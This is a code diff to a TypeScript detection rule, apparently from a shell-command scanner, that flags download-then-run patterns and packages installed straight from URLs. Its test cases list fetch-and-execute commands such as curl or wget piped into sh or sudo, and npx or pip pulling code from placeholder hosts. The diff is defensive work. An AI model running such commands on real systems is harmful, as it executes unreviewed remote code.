@@ -16,6 +16,8 @@ export const downloadThenRun = defineRule({
       'curl https://acme.io/x > /tmp/x.sh; sh /tmp/x.sh',
       'wget -O /tmp/a https://acme.io/a && sudo /tmp/a',
       'curl -sL https://acme.io/i.sh --output i.sh && source ./i.sh',
+      'npx https://acme.io/pkg.tgz',
+      'pip install http://198.51.100.7/x.tar.gz',
     ],
     pass: [
       'curl -o data.json https://acme.io/d && jq . data.json',
@@ -24,9 +26,14 @@ export const downloadThenRun = defineRule({
       'bash i.sh',
       'curl -O https://acme.io/x.sh',
       'curl -o a.sh https://acme.io/a && bash b.sh',
+      'pip install git+https://github.com/acme/x',
+      'npx create-next-app@latest web',
     ],
   },
   *judge(subject) {
+    for (const command of subject.commands) {
+      if (runsPackageByUrl(command)) yield { evidence: command.source };
+    }
     const saved = new Map<string, string>();
     for (const command of subject.commands) {
       for (const path of savedBy(command))
@@ -73,4 +80,17 @@ function startedBy(command: SimpleCommand): string[] {
   if (SHELLS.has(program) || isInterpreter(program) || program === 'source' || program === '.')
     return operand === undefined ? [] : [operand];
   return name !== undefined && /[/\\]/.test(name.text) ? [name.text] : [];
+}
+
+/** A package named by an address instead of a registry's name: nobody has looked at it. */
+function runsPackageByUrl({ program, args }: SimpleCommand): boolean {
+  const texts = args.map((word) => word.text);
+  if (/^(?:npx|bunx|uvx|pipx)$/.test(program)) {
+    return texts.some((text) => /^(?:git\+)?https?:\/\/(?!github\.com\/|gitlab\.com\/)/.test(text));
+  }
+  return (
+    /^(?:pip3?|uv|npm|pnpm|yarn)$/.test(program) &&
+    texts.some((text) => /^(?:install|add|i)$/.test(text)) &&
+    texts.some((text) => /^(?:git\+)?http:\/\/(?!localhost|127\.)/.test(text))
+  );
 }
